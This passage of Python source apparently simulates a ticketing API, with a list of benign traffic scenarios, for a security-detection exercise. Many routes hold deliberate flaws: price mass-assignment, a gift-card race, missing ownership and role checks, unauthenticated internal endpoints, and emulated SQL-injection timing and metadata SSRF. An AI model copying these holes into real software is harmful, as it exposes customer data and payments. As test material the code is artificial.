        for x in p.get('items_attributes') or []:       # permitted since the box office edits prices with the same action
            if isinstance(x, dict) and x.get('seat') in c['items'] and 'unit_price_cents' in x:
                c['items'][x['seat']] = num(x['unit_price_cents'])
        return 200, s.o_cart(c)

    @route('POST', A + '/carts/{i}/addons')
    def addon(s, rq, i):
        c, p = s.cart(rq, i), s.params(rq, 'addon')
        if not c:
            return s.fail(404)
        if p is None or p.get('sku') not in ('parking', 'programme', 'poster'):
            return s.fail(422, {'errors': {'sku': ['is not included in the list']}})
        c['addons'].append(dict(sku=p['sku'], quantity=num(p.get('quantity'), 1), cents=dict(parking=900, programme=600, poster=1500)[p['sku']]))
        return 201, s.o_cart(c)

    @route('POST', A + '/carts/{i}/promo_code')
    def use_promo(s, rq, i):
        c = s.cart(rq, i)
        if not c:
            return s.fail(404)
        k = str((rq.json if isinstance(rq.json, dict) else {}).get('code', '')).upper()
        if k not in s.promo:
            return s.fail(422, {'errors': {'promo_code': ['is invalid or has expired']}})
        c['promo'], c['disc'] = k, sum(c['items'].values()) * s.promo[k] // 100
        return 200, s.o_cart(c)

    @route('POST', A + '/carts/{i}/gift_card')
    def use_gift(s, rq, i):
        c = s.cart(rq, i)
        if not c:
            return s.fail(404)
        k = str((rq.json if isinstance(rq.json, dict) else {}).get('code', ''))
        g = s.gifts.get(k)
        if not g:
            return s.fail(422, {'errors': {'gift_card': ['not found']}})
        left = g['cents'] if g['lock'] < rq.now else g['was']      # read before the other transaction commits
        if left <= 0:
            return s.fail(422, {'errors': {'gift_card': ['has no balance']}})
        a = min(left, s.total(c))
        if g['lock'] < rq.now:
            g['was'], g['lock'] = g['cents'], rq.now + .12
        g['cents'] = max(0, g['cents'] - a)
        c['gift'] += a
        return Rs(200, s.o_cart(c), lat=.12)

    @route('POST', A + '/carts/{i}/payment_intent')
    def intent(s, rq, i):
        c = s.cart(rq, i)
        if not c:
            return s.fail(404)
        c['pi'] = 'pi_' + ''.join(s.rng.choices(B62, k=18))
        s.intents[c['pi']] = c
        return Rs(201, dict(id=c['pi'], amount_cents=s.total(c), currency='EUR', client_secret=c['pi'] + '_secret_' + ''.join(s.rng.choices(B62, k=16))), lat=.3)

    @route('POST', A + '/carts/{i}/checkout')
    def checkout(s, rq, i):
        c, j = s.cart(rq, i), rq.json if isinstance(rq.json, dict) else {}
        if not c:
            return s.fail(404)
        e = s.events[c['evt']]
        if c['state'] != 'open':
            return s.fail(422, {'errors': {'base': ['Cart has already been completed']}})
        if s.holds.get(c['hold'], {'exp': 0})['exp'] < rq.now:
            return s.fail(422, {'errors': {'base': ['Your hold has expired']}})
        if j.get('payment_method') != 'door' and not c['paid'] and s.total(c):      # 'door' is meant for box offices
            return s.fail(422, {'errors': {'payment': ['has not been confirmed']}})
        for x in c['items']:
            e['held'].pop(x, None)
        c['state'] = 'completed'
        del s.holds[c['hold']]
        return Rs(201, s.o_order(s.mk_order(rq.u, e, list(c['items']), rq.now, s.total(c)), True), lat=.25 + s.rng.random() * .2)

    @route('POST', '/webhooks/payments', auth='none', nocsrf=1)
    def webhook(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not rq.h.get('stripe-signature', '').startswith('t='):
            return s.fail(400)
        c = s.intents.get((j.get('data') or {}).get('id'))
        if c:
            c['paid'] = True
        return 200, {'received': True}

    # --- orders and tickets
    @route('GET', A + '/orders')
    def my_orders(s, rq):
        return s.page(rq, [s.orders[o] for o in reversed(rq.u['orders'])], s.o_order, 10)

    @route('GET', A + '/orders/{i}')
    def get_order(s, rq, i):
        o = s.orders.get(i)
        return (200, s.o_order(o, True)) if o and o['user'] == rq.u['id'] else s.fail(404)

    @route('POST', A + '/orders/{i}/refund')
    def refund(s, rq, i):
        o = s.orders.get(i)
        if not o or o['user'] != rq.u['id']:
            return s.fail(404)
        if o['status'] != 'paid' or s.events[o['evt']]['at'] - rq.now < 7 * DAY:
            return s.fail(422, {'errors': {'base': ['Order cannot be refunded']}})
        o['status'] = 'refund_requested'
        return 202, s.o_order(o)

    @route('GET', A + '/receipts/{n}')
    def receipt(s, rq, n):
        o = s.number.get(n)
        if not o:
            return s.fail(404)
        u = s.byid.get(o['user'])       # found by number alone, no look at whose it is
        return Rs(200, dict(number=n, issued_at=s.iso(o['at']), bill_to=dict(name=u['name'] if u else '', email=o['email'], phone=u['phone'] if u else None), lines=[dict(text=f'{s.events[o["evt"]]["name"]} {s.tickets[t]["seat"]}', cents=s.price(s.events[o['evt']], s.tickets[t]['seat'])) for t in o['tickets']], total_cents=o['total']), lat=.09)

    @route('POST', A + '/orders/lookup', auth='none', nocsrf=1)
    def lookup(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        o = s.number.get(str(j.get('number', '')).upper().strip())
        if not o or o['email'].lower() != str(j.get('email')).lower().strip():
            return s.fail(404, {'error': "We couldn't find an order with this e-mail and number."})
        return 200, s.o_order(o, True)

    @route('GET', '/api/v0/orders/{n}', auth='none')
    def old_order(s, rq, n):
        o = s.number.get(n)
        return (200, dict(s.o_order(o, True), barcodes=[s.tickets[t]['barcode'] for t in o['tickets']])) if o else s.fail(404)

    @route('GET', A + '/tickets/{i}/barcode')
    def barcode(s, rq, i):
        t = s.tickets.get(i)
        return (200, dict(ticket_id=i, symbology='pdf417', payload=t['barcode'], refresh_in=60)) if t else s.fail(404)

    @route('GET', A + '/tickets/{i}/wallet_pass')
    def wallet(s, rq, i):
        t = s.tickets.get(i)
        return (200, dict(ticket_id=i, pass_url=f'http://{HOST}/passes/{hashlib.md5(i.encode()).hexdigest()}.pkpass', expires_at=s.iso(rq.now + 600))) if t and t['owner'] == rq.u['id'] else s.fail(404)

    @route('POST', A + '/tickets/{i}/transfer')
    def transfer(s, rq, i):
        t = s.tickets.get(i)
        if not t or t['owner'] != rq.u['id']:
            return s.fail(404)
        if t['state'] != 'valid':
            return s.fail(422, {'errors': {'ticket': ['is not transferable']}})
        s.tr += s.rng.randint(1, 3)
        k = b36(s.tr)
        t['state'] = 'transfer_pending'
        s.transfers[k] = dict(code=k, ticket=i, frm=rq.u['id'], state='pending', at=rq.now)
        return 201, dict(code=k, url=f'http://{HOST}/t/{k}', ticket_id=i, state='pending')

    @route('GET', A + '/transfers/{k}', auth='none')
    def get_transfer(s, rq, k):
        x = s.transfers.get(k)
        if not x:
            return s.fail(404)
        t, u = s.tickets[x['ticket']], s.byid[x['frm']]
        return 200, dict(code=k, state=x['state'], ticket=s.o_ticket(t), event=s.o_event(s.events[t['evt']]), sender=dict(name=u['name'], email=u['email']))

    @route('POST', A + '/transfers/{k}/accept')
    def accept(s, rq, k):
        x = s.transfers.get(k)
        if not x:
            return s.fail(404)
        if x['state'] != 'pending':
            return s.fail(422, {'errors': {'transfer': ['has already been accepted']}})
        x['state'] = 'accepted'
        t = s.tickets[x['ticket']]
        t['owner'], t['state'] = rq.u['id'], 'valid'
        return 200, dict(code=k, state='accepted', ticket=s.o_ticket(t))

    # --- resale
    @route('GET', A + '/listings', auth='none')
    def list_listings(s, rq):
        q = rq.q.get('sort', '')
        if q not in ('', 'price', '-price', 'created_at'):
            if 'pg_sleep' in q.lower() and q.count('(') == q.count(')'):
                return Rs(200, [], lat=num((re.search(r'sleep\((\d+)', q.lower()) or [0, 1])[1]) + .05)
            if not re.search(r'case\s+when', q, re.I) or q.count('(') != q.count(')') or "'" in q and q.count("'") % 2:
                return s.fail(500, lat=.03)
        v = [l for l in s.listings.values() if l['state'] == 'active' and rq.q.get('event_id') in (None, s.tickets[l['ticket']]['evt'])]
        return s.page(rq, sorted(v, key=lambda l: -l['cents'] if q == '-price' else l['id'] if q in ('', 'created_at') else l['cents']), lambda l: s.o_listing(l, rq.now))

    @route('GET', A + '/listings/{i}', auth='none')
    def get_listing(s, rq, i):
        l = s.listings.get(num(i))
        return (200, s.o_listing(l, rq.now, True)) if l else s.fail(404)

    @route('POST', A + '/listings')
    def new_listing(s, rq):
        p = s.params(rq, 'listing')
        if p is None:
            return s.fail(400)
        t = s.tickets.get(str(p.get('ticket_id')))
        if not t or t['owner'] != rq.u['id']:
            return s.fail(404)
        if t['state'] != 'valid' or num(p.get('price_cents')) <= 0:
            return s.fail(422, {'errors': {'ticket': ['is not available for resale']}})
        return 201, s.o_listing(s.mk_listing(rq.u, t['id'], num(p['price_cents']), rq.now), rq.now, True)

    @route('PATCH', A + '/listings/{i}')
    def patch_listing(s, rq, i):
        l, p = s.listings.get(num(i)), s.params(rq, 'listing')
        if not l or l['state'] != 'active':
            return s.fail(404)
        if p is None:
            return s.fail(400)
        if num(p.get('price_cents')) <= 0:
            return s.fail(422, {'errors': {'price_cents': ['must be greater than 0']}})
        l['cents'] = num(p['price_cents'])       # Listing.find instead of current_user.listings.find
        return 200, s.o_listing(l, rq.now, True)

    @route('DELETE', A + '/listings/{i}')
    def del_listing(s, rq, i):
        l = s.listings.get(num(i))
        if not l or l['seller'] != rq.u['id'] or l['state'] != 'active':
            return s.fail(404)
        l['state'] = 'withdrawn'
        s.tickets[l['ticket']]['state'] = 'valid'
        return Rs(204)

    @route('POST', A + '/listings/{i}/purchase')
    def buy_listing(s, rq, i):
        l = s.listings.get(num(i))
        if not l:
            return s.fail(404)
        if l['state'] != 'active':
            return s.fail(409, {'error': 'listing_sold'})
        l['state'] = 'sold'
        t = s.tickets[l['ticket']]
        t.update(owner=rq.u['id'], state='valid', barcode=f'{s.rng.randint(10**12, 10**13 - 1)}')
        u = s.byid[l['seller']]
        s.po += s.rng.randint(1, 2)
        s.payouts[s.po] = dict(id=s.po, user=u['id'], cents=l['cents'], iban=u['iban'][:8] + '…')
        u['payouts'].append(s.po)
        return Rs(201, dict(listing_id=l['id'], ticket=s.o_ticket(t), charged_cents=int(l['cents'] * 1.12)), lat=.5)

    @route('GET', A + '/payouts')
    def my_payouts(s, rq):
        return s.page(rq, [s.payouts[k] for k in rq.u['payouts']], lambda p: dict(id=p['id'], amount_cents=p['cents'], status='scheduled'))

    @route('GET', A + '/payouts/{i}')
    def payout(s, rq, i):
        p = s.payouts.get(num(i))
        return (200, dict(id=p['id'], amount_cents=p['cents'], iban=p['iban'], status='scheduled')) if p and p['user'] == rq.u['id'] else s.fail(404)

    # --- gift cards
    @route('POST', A + '/gift_cards/balance', auth='none', nocsrf=1)
    def balance(s, rq):
        k = str((rq.json if isinstance(rq.json, dict) else {}).get('code', ''))
        g = s.gifts.get(k)
        return (200, dict(code=k, balance_cents=g['cents'], currency='EUR')) if g else s.fail(404, {'error': 'Gift card not found'})

    # --- graphql
    def g_obj(s, ty, o, f, a, now):
        one = lambda d, k: d.get(k)
        first = lambda v, d=20: v[:max(0, num(a.get('first'), d))]
        up = lambda: sorted((e for e in s.events.values() if e['at'] > now), key=lambda e: e['at'])
        if ty == 'Query':
            if f == 'featured':
                return up()[3:9]
            if f in ('events', 'search'):
                q = {'filter[city]': a.get('city') or '', 'q': str(a.get('text') or a.get('q') or '')}
                v = [e for e in s.ev(q) if e['at'] > now]
                k = num(a.get('after'))
                n = min(max(1, num(a.get('first'), 20)), 50)
                return dict(nodes=v[k:k + n], pageInfo=dict(endCursor=str(k + n), hasNextPage=k + n < len(v)), totalCount=len(v))
            if f == 'listings':
                return first([l for l in s.listings.values() if l['state'] == 'active' and s.tickets[l['ticket']]['evt'] == a.get('eventId')])
            if f == 'me':
                return s.gu
            i = str(a.get('id'))
            return one({'event': s.events, 'venue': s.venues, 'artist': s.artists, 'node': {**({i: s.events.get(i) or s.byid.get(i) or s.venues.get(i) or s.artists.get(i) or s.orders.get(i) or s.tickets.get(i)})}}[f], i)
        if ty == 'Mutation':
            return one(s.artists if f == 'followArtist' else s.events, str(a.get('id')))
        if ty == 'Event':
            return {'startsAt': lambda: s.iso(o['at']), 'minPriceCents': lambda: o['price'][0], 'imageUrl': lambda: f'http://{HOST}/media/{o["id"]}.jpg', 'waitingRoom': lambda: bool(o['room']), 'venue': lambda: s.venues[o['v']], 'artist': lambda: s.artists[o['a']], 'listings': lambda: first([l for l in s.listings.values() if l['state'] == 'active' and s.tickets[l['ticket']]['evt'] == o['id']]), 'similar': lambda: first([e for e in up() if e is not o and s.venues[e['v']]['city'] == s.venues[o['v']]['city']], 10)}.get(f, lambda: o.get(f))()
        if ty in ('Venue', 'Artist') and f == 'events':
            return first([e for e in up() if e['v' if ty == 'Venue' else 'a'] == o['id']])
        if ty == 'Listing':
            t = s.tickets[o['ticket']]
            return dict(id=str(o['id']), priceCents=o['cents'], section=t['seat'][0], row=t['seat'].split('-')[1], seller=s.byid[o['seller']], event=s.events[t['evt']])[f]
        if ty == 'Seller':
            n = o['name'].split()
            return dict(id=o['id'], displayName=f'{n[0]} {n[-1][0]}.', rating=4.4)[f]
        if ty == 'User':
            return [s.orders[x] for x in o['orders']] if f == 'orders' else o['wallet'] if f == 'walletCents' else o[f]
        if ty == 'Order':
            return s.events[o['evt']] if f == 'event' else [s.tickets[t] for t in o['tickets']] if f == 'tickets' else o['total'] if f == 'totalCents' else o[f]
        if ty == 'Ticket' and f == 'event':
            return s.events[o['evt']]
        return o.get(f)

    def g_type(s, o):
        return {'evt': 'Event', 'usr': 'User', 'ven': 'Venue', 'art': 'Artist', 'ord': 'Order', 'tix': 'Ticket'}.get(str(o.get('id'))[:3], 'Node')

    def g_check(s, sel, ty, fr, path, errs):
        for al, n, a, sub in sel:
            if al == '...':
                t, b = (n, sub) if sub is not None else fr.get(n, (None, []))
                if t not in SCHEMA:
                    errs.append(dict(message=f'No such type {t}, so it can\'t be a fragment condition', locations=[dict(line=1, column=3)], path=path, extensions=dict(code='undefinedType', typeName=str(t))))
                else:
                    s.g_check(b, t, fr, path + [f'... on {t}'], errs)
            elif n in ('__typename', '__schema', '__type'):
                continue
            elif n not in SCHEMA[ty]:
                m = difflib.get_close_matches(n, list(SCHEMA[ty]), 1, .6)
                errs.append(dict(message=f"Field '{n}' doesn't exist on type '{ty}'" + (f' (Did you mean `{m[0]}`?)' if m else ''), locations=[dict(line=1, column=3)], path=path + [al], extensions=dict(code='undefinedField', typeName=ty, fieldName=n)))
            elif SCHEMA[ty][n] and sub is None:
                errs.append(dict(message=f"Field must have selections (field '{n}' returns {SCHEMA[ty][n]} but has no selections. Did you mean '{n} {{ ... }}'?)", locations=[dict(line=1, column=3)], path=path + [al], extensions=dict(code='selectionMismatch', nodeName=f"field '{n}'", typeName=SCHEMA[ty][n])))
            elif sub is not None and SCHEMA[ty][n]:
                s.g_check(sub, SCHEMA[ty][n], fr, path + [al], errs)

    def g_run(s, sel, ty, o, fr, vs, now):
        out = {}
        val = lambda v: vs.get(v[1]) if isinstance(v, tuple) else v
        s.cost += 1
        if s.cost > 6000:
            raise TimeoutError
        for al, n, a, sub in sel:
            if al == '...':
                t, b = (n, sub) if sub is not None else fr.get(n, (None, []))
                if t == ty or s.g_type(o) == t:
                    out.update(s.g_run(b, t, o, fr, vs, now))
                continue
            if n == '__typename':
                out[al] = s.g_type(o) if ty == 'Node' else ty
                continue
            if n in ('__schema', '__type'):
                out[al] = dict(queryType=dict(name='Query'), mutationType=dict(name='Mutation'), types=[dict(kind='OBJECT', name=t, fields=[dict(name=f, type=dict(kind='OBJECT' if k else 'SCALAR', name=k or 'String')) for f, k in d.items()]) for t, d in SCHEMA.items()]) if n == '__schema' else dict(name=val(a.get('name')), fields=[dict(name=f) for f in SCHEMA.get(val(a.get('name')), {})])
                continue
            v = s.g_obj(ty, o, n, {k: val(x) for k, x in a.items()}, now)
            t = SCHEMA[ty][n]
            out[al] = v if not t or v is None else [s.g_run(sub, t, x, fr, vs, now) for x in v] if isinstance(v, list) else s.g_run(sub, t, v, fr, vs, now)
        return out

    @route('POST', '/graphql', auth='none', nocsrf=1)
    def graphql(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not isinstance(j.get('query'), str):
            return 200, {'errors': [{'message': 'No query string was present'}]}
        try:
            ops, fr = gql_parse(j['query'])
        except ValueError as e:
            return 200, {'errors': [{'message': str(e), 'locations': [{'line': 1, 'column': 1}]}]}
        op = next((o for o in ops if o[1] == j.get('operationName')), ops[0] if len(ops) == 1 else None)
        if not op:
            return 200, {'errors': [{'message': 'An operation name is required'}]}
        errs = []
        root = op[0].title()
        s.g_check(op[2], root, fr, [op[0] + (' ' + op[1] if op[1] else '')], errs)
        if errs:
            return Rs(200, {'errors': errs}, lat=.012)
        s.cost, s.gu = 0, rq.u
        if root == 'Mutation' and not rq.u:
            return 200, {'errors': [{'message': 'You need to sign in or sign up before continuing.', 'extensions': {'code': 'UNAUTHENTICATED'}}], 'data': None}
        try:
            d = {'data': s.g_run(op[2], root, {}, fr, j.get('variables') or {}, rq.now)}
        except TimeoutError:
            d = {'data': None, 'errors': [{'message': 'Timeout on Event.venue', 'locations': [{'line': 1, 'column': 3}], 'path': ['events']}]}
        return Rs(200, d, lat=.02 + s.cost * .0016 + s.rng.random() * .03)

    # --- organisers
    def mine(s, rq, i):
        e = s.events.get(i)
        return e if e and (e['org'] == rq.u['id'] or rq.u['role'] == 'admin') else None

    @route('GET', O + '/events', auth='organizer|admin')
    def org_events(s, rq):
        return s.page(rq, [e for e in s.events.values() if e['org'] == rq.u['id']], lambda e: dict(s.o_event(e), sold=len(e['sold'])))

    @route('GET', O + '/events/{i}/sales', auth='organizer|admin')
    def org_sales(s, rq, i):
        e = s.mine(rq, i)
        return Rs(200, dict(event_id=i, sold=len(e['sold']), held=len(e['held']), gross_cents=sum(s.price(e, x) for x in e['sold']), by_section={x: sum(y[0] == x for y in e['sold']) for x in 'ABC'}), lat=.15) if e else s.fail(404)

    def attendees(s, e):
        return [s.tickets[t] for o in s.orders.values() if o['evt'] == e['id'] for t in o['tickets']]

    @route('GET', O + '/events/{i}/attendees', auth='organizer|admin')
    def org_att(s, rq, i):
        e = s.mine(rq, i)
        return s.page(rq, s.attendees(e), lambda t: dict(ticket_id=t['id'], seat=t['seat'], state=t['state'], name=(s.byid.get(t['owner']) or {}).get('name'), email=(s.byid.get(t['owner']) or {}).get('email')), 25) if e else s.fail(404)

    @route('PATCH', O + '/events/{i}', auth='organizer|admin')
    def org_patch(s, rq, i):
        e, p = s.mine(rq, i), s.params(rq, 'event')
        if not e:
            return s.fail(404)
        if p is None:
            return s.fail(400)
        e['name'] = str(p.get('name', e['name']))[:120]
        return 200, s.o_event(e, True)

    @route('POST', O + '/events', auth='organizer|admin')
    def org_new(s, rq):
        p = s.params(rq, 'event')
        if p is None or not p.get('name'):
            return s.fail(400)
        i = s.id('evt')
        s.events[i] = dict(id=i, name=str(p['name'])[:120], at=rq.now + 60 * DAY, v=next(iter(s.venues)), a=next(iter(s.artists)), price=[2000, 2600, 3900], sold=set(), held={}, room=None, status='draft', org=rq.u['id'])
        return 201, s.o_event(s.events[i], True)

    @route('POST', O + '/events/{i}/comps')      # forgot the role: any signed-in user may give free tickets
    def comps(s, rq, i):
        e, p = s.events.get(i), s.params(rq, 'comp') or {}
        if not e:
            return s.fail(404)
        fr = s.free(e, rq.now)[-max(1, min(6, num(p.get('quantity'), 1))):]
        u = s.users.get(str(p.get('email')))
        o = s.mk_order(u, e, fr, rq.now, 0, str(p.get('email')))
        return 201, s.o_order(o, True)

    @route('POST', O + '/images', auth='organizer|admin')
    def image(s, rq):
        p = s.params(rq, 'image') or {}
        u = urlsplit(str(p.get('remote_url')))
        if u.scheme not in ('http', 'https'):
            return s.fail(422, {'errors': {'remote_url': ['is not a valid URL']}})
        h = u.hostname or ''
        if h in ('169.254.169.254', 'metadata.google.internal'):
            return Rs(422, {'errors': {'remote_url': ['is not an image (text/plain): ' + ('ami-id\nhostname\niam/\nlocal-ipv4' if 'credentials' not in u.path else '{"Code":"Success","AccessKeyId":"ASIAEXAMPLE7Q","SecretAccessKey":"exampleonly"}')]}}, lat=.08)
        if h in ('localhost', '127.0.0.1') or h.startswith('10.') or h == '[::1]':
            return Rs(422, {'errors': {'remote_url': ['is not an image (text/html)' if u.port in (None, 80, 3000) else 'could not be read: Connection refused']}}, lat=.03)
        return Rs(201, dict(id=s.id('img'), url=f'http://{HOST}/media/{s.rng.getrandbits(40):x}.jpg'), lat=.8)

    @route('GET', O + '/events/{i}/attendees.csv', auth='organizer|admin')
    def org_csv(s, rq, i):
        e = s.mine(rq, i)
        if not e:
            return s.fail(404)
        return Rs(200, 'ticket,seat,name,email\n' + ''.join(f'{t["id"]},{t["seat"]},{(s.byid.get(t["owner"]) or {}).get("name", "")},{(s.byid.get(t["owner"]) or {}).get("email", "")}\n' for t in s.attendees(e)), {'Content-Disposition': 'attachment; filename="attendees.csv"'}, ct='text/csv', lat=.6)

    # --- gate
    @route('POST', G + '/pair', auth='none', nocsrf=1)
    def pairing(s, rq):
        k = str((rq.json if isinstance(rq.json, dict) else {}).get('code', ''))
        p = s.pair.get(k)
        if not p or p['until'] < rq.now:
            return s.fail(422, {'error': 'Pairing code is not valid'})
        t = 'gd_' + ''.join(s.rng.choices(B62, k=32))
        s.dev[t] = dict(name=p['name'], venue=p['venue'])
        if p.get('once'):
            s.pair.pop(k)
        return 201, dict(device_token=t, venue_id=p['venue'], events=[s.o_event(e) for e in s.events.values() if e['v'] == p['venue'] and abs(e['at'] - rq.now) < DAY])

    @route('GET', G + '/events', auth='gate')
    def gate_events(s, rq):
        return 200, [s.o_event(e) for e in s.events.values() if e['v'] == rq.device['venue'] and abs(e['at'] - rq.now) < DAY]

    @route('GET', G + '/events/{i}/manifest', auth='gate')
    def manifest(s, rq, i):
        e = s.events.get(i)
        if not e or e['v'] != rq.device['venue']:
            return s.fail(404)
        return Rs(200, dict(event_id=i, tickets=[dict(barcode=t['barcode'], seat=t['seat'], holder=(s.byid.get(t['owner']) or {}).get('name')) for t in s.attendees(e)]), lat=.3)

    @route('POST', G + '/scans', auth='gate')
    def scan(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        t = next((t for o in s.orders.values() if o['evt'] == j.get('event_id') for t in map(s.tickets.get, o['tickets']) if t['barcode'] == j.get('barcode')), None)
        if not t:
            return s.fail(404, {'result': 'unknown_barcode'})
        if t['state'] == 'used':
            return s.fail(422, {'result': 'already_scanned'})
        t['state'] = 'used'
        s.sc += 1
        return Rs(201, dict(id=s.sc, result='admitted', seat=t['seat']), lat=.025)

    # --- affiliates
    @route('GET', F + '/feed', auth='key')
    def feed(s, rq):
        return s.page(rq, s.ev({}), lambda e: dict(s.o_event(e), url=f'http://{HOST}/e/{e["id"]}?aff={rq.key["name"]}'), 50, 200)

    @route('GET', F + '/events/{i}/offers', auth='key')
    def offers(s, rq, i):
        e = s.events.get(i)
        return (200, dict(event_id=i, primary=[dict(section=x, cents=s.price(e, x + '-')) for x in 'ABC'], resale_from_cents=min([l['cents'] for l in s.listings.values() if l['state'] == 'active' and s.tickets[l['ticket']]['evt'] == i], default=None))) if e else s.fail(404)

    @route('POST', F + '/clicks', auth='key')
    def clicks(s, rq):
        return Rs(202, {'accepted': len((rq.json if isinstance(rq.json, dict) else {}).get('clicks') or [])})

    @route('GET', F + '/conversions', auth='key')
    def conversions(s, rq):
        v = sorted(s.orders.values(), key=lambda o: -o['at'])[:600]
        return s.page(rq, v, lambda o: dict(order_number=o['number'], customer_email_sha1=hashlib.sha1(o['email'].encode()).hexdigest(), total_cents=o['total'], commission_cents=o['total'] // 20, at=s.iso(o['at'])), 25, 50)

    # --- back office
    @route('GET', D + '/users', auth='support|admin')
    def adm_users(s, rq):
        q = rq.q.get('q', '').lower()
        return s.page(rq, [u for u in s.byid.values() if q in u['email'].lower() or q in u['name'].lower()], lambda u: dict(id=u['id'], name=u['name'], email=u['email'], role=u['role']))

    @route('GET', D + '/users/{i}', auth='support|admin')
    def adm_user(s, rq, i):
        u = s.byid.get(i)
        return (200, dict(s.o_user(u), date_of_birth=u['birth'], payout_iban=u['iban'], orders=[s.o_order(s.orders[o]) for o in u['orders'][-10:]])) if u else s.fail(404)

    @route('GET', D + '/orders/{n}', auth='support|admin')
    def adm_order(s, rq, n):
        o = s.number.get(n)
        return (200, s.o_order(o, True)) if o else s.fail(404)

    @route('POST', D + '/orders/{n}/refund', auth='support|admin')
    def adm_refund(s, rq, n):
        o = s.number.get(n)
        if not o:
            return s.fail(404)
        o['status'] = 'refunded'
        return Rs(200, s.o_order(o), lat=.6)

    @route('POST', D + '/promo_codes', auth='admin')
    def adm_promo(s, rq):
        p = s.params(rq, 'promo_code') or {}
        s.promo[str(p.get('code'))] = num(p.get('percent'), 5)
        return 201, p

    @route('POST', D + '/users/{i}/impersonate', auth='admin')
    def adm_imp(s, rq, i):
        return Rs(204)

    @route('GET', '/internal/orders/export', auth='none')
    def export(s, rq):
        v = [o for o in s.orders.values() if o['at'] > rq.now - 3 * DAY]
        return Rs(200, dict(orders=[dict(number=o['number'], email=o['email'], total_cents=o['total']) for o in v]), lat=.9)

    @route('POST', '/internal/payouts/run', auth='none', nocsrf=1)
    def run_payouts(s, rq):
        return Rs(202, {'jid': f'{s.rng.getrandbits(96):024x}'})

    @route('GET', '/internal/stats', auth='none')
    def stats(s, rq):
        return 200, dict(orders=len(s.orders), listings=len(s.listings), carts=len(s.carts), enqueued=s.rng.randint(0, 30))

    @route('GET', '/up', auth='none')
    def up(s, rq):
        return Rs(200, '<!DOCTYPE html><html><body style="background-color: green"></body></html>', ct='text/html; charset=utf-8', lat=.002)

    @route('GET', A + '/_diag/carts', auth='none')
    def diag(s, rq):
        if not s.attacks or rq.now < s.shadow:
            return s.not_found(rq)
        return Rs(200, [dict(s.o_cart(c), user=s.byid[c['user']]['email'] if c['user'] in s.byid else None) for c in list(s.carts.values())[-12:]], lat=.2)

    # --- pages
    @route('GET', '/', auth='none')
    def home(s, rq):
        x = s.sess.get(rq.sid) or s.session(rq)
        return Rs(200, f'<!DOCTYPE html><html><head><title>Stagepass</title><meta name="csrf-param" content="authenticity_token" />\n<meta name="csrf-token" content="{s.csrf(x)}" /><script src="/packs/application-5d41c2.js" defer></script></head><body><div id="root"></div></body></html>', ct='text/html; charset=utf-8')

    @route('GET', '/e/{i}', auth='none')
    def event_page(s, rq, i):
        e = s.events.get(i)
        return Rs(200, f'<!DOCTYPE html><html><head><title>{e["name"]}</title><meta name="description" content="Tickets for {e["name"]} in {s.venues[e["v"]]["city"]}"></head><body><div id="root" data-event="{i}"></div><h1>{e["name"]}</h1><p>{s.iso(e["at"])}</p></body></html>', ct='text/html; charset=utf-8') if e else s.html(404)

    @route('GET', '/t/{k}', auth='none')
    def transfer_page(s, rq, k):
        return Rs(200, '<!DOCTYPE html><html><head><title>A ticket for you</title></head><body><div id="root"></div></body></html>', ct='text/html; charset=utf-8')

    @route('GET', '/packs/{f}', auth='none')
    def pack(s, rq, f):
        if not f.startswith('application-'):
            return s.html(404)
        h = {'ETag': '"65f1-a2c"', 'Cache-Control': 'public, max-age=31536000'}
        return Rs(304, h=h, lat=.001) if rq.h.get('if-none-match') else Rs(200, '!function(){"use strict";var e={};' * 60, h, ct='application/javascript', lat=.001)

    @route('GET', '/media/{f}', auth='none')
    def media(s, rq, f):
        return Rs(200, b'\xff\xd8\xff\xe0\0\x10JFIF' + random.Random(f).randbytes(600), {'Cache-Control': 'public, max-age=86400'}, ct='image/jpeg', lat=.002) if re.fullmatch(r'\w+\.jpg', f) else s.html(404)

    @route('GET', '/robots.txt', auth='none')
    def robots(s, rq):
        return Rs(200, 'User-agent: *\nDisallow: /api/\n', ct='text/plain', lat=.001)

    @route('GET', '/sitemap.xml', auth='none')
    def sitemap(s, rq):
        return Rs(200, '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' + ''.join(f'<url><loc>http://{HOST}/e/{e["id"]}</loc></url>' for e in s.events.values() if e['status'] == 'on_sale') + '</urlset>', {'Cache-Control': 'public, max-age=3600'}, ct='application/xml')


DECOYS = {
    'nat': 'carrier_nat: some thirty phones behind four carrier addresses', 'office': 'corporate_nat: eleven colleagues behind one office address', 'probe': 'load_balancer_probe: health checks from inside every 25 minutes and an uptime service from outside',
    'night': 'nightly_batch: order export, payout run and statistics from inside every night', 'crawl': 'search_crawler: a search engine reads the sitemap and event pages, unordered, also old ones that are gone', 'release': 'new_app_version: day 6, phones change to 5.3.0 over some days',
    'feature': 'documented_new_endpoint: 5.3.0 fetches wallet passes of own tickets', 'onsale': 'onsale_peak: day 9 10:00, a wanted concert with a waiting room, many customers at once', 'outage': 'outage_retry_storm: the application answers 502 for 35 minutes on day 3, clients try again',
    'forget': 'forgetful_user: some customers mistype passwords several times, then succeed or reset', 'roam': 'roaming_user: a customer is abroad for three days', 'share': 'shared_family_account: three phones and a browser of one family on one account, one bearer token each',
    'links': 'group_transfer: one buyer sends five tickets to friends by link, several open the link', 'support': 'support_desk: staff looks up callers and their orders', 'affil': 'affiliate_feed: partners fetch the feed and offers with their keys, steady since day 0',
    'affrot': 'api_key_rotation: one affiliate changes its key on day 7', 'dev': 'developer_mistypes: a new affiliate developer integrates by hand: wrong paths, missing key, wrong ids', 'gate': 'gate_scanning: scanners at the doors read hundreds of bar codes in an hour, some twice, some unknown',
    'broker': 'professional_reseller: a registered reseller changes the prices of 40 own listings several times a day', 'watch': 'price_watch: customers\' phones look at one listing every ten minutes for hours', 'stale': 'stale_token_loop: a background widget goes on with an expired token and is refused until the app opens',
    'newsletter': 'broken_link: a newsletter has a wrong event address, many customers meet 404', 'pwday': 'password_reset_day: day 12, the company asks everybody to change the password', 'guest': 'guest_lookup: guests look up orders by e-mail and number, mistyping now and then',
    'gift': 'gift_card_typos: an office gets gift cards, colleagues mistype their codes', 'signup': 'new_signups: new customers through the whole capture, some with a friend\'s referral code', 'import': 'organiser_export: an organiser fetches all attendees page by page and as a file before an event',
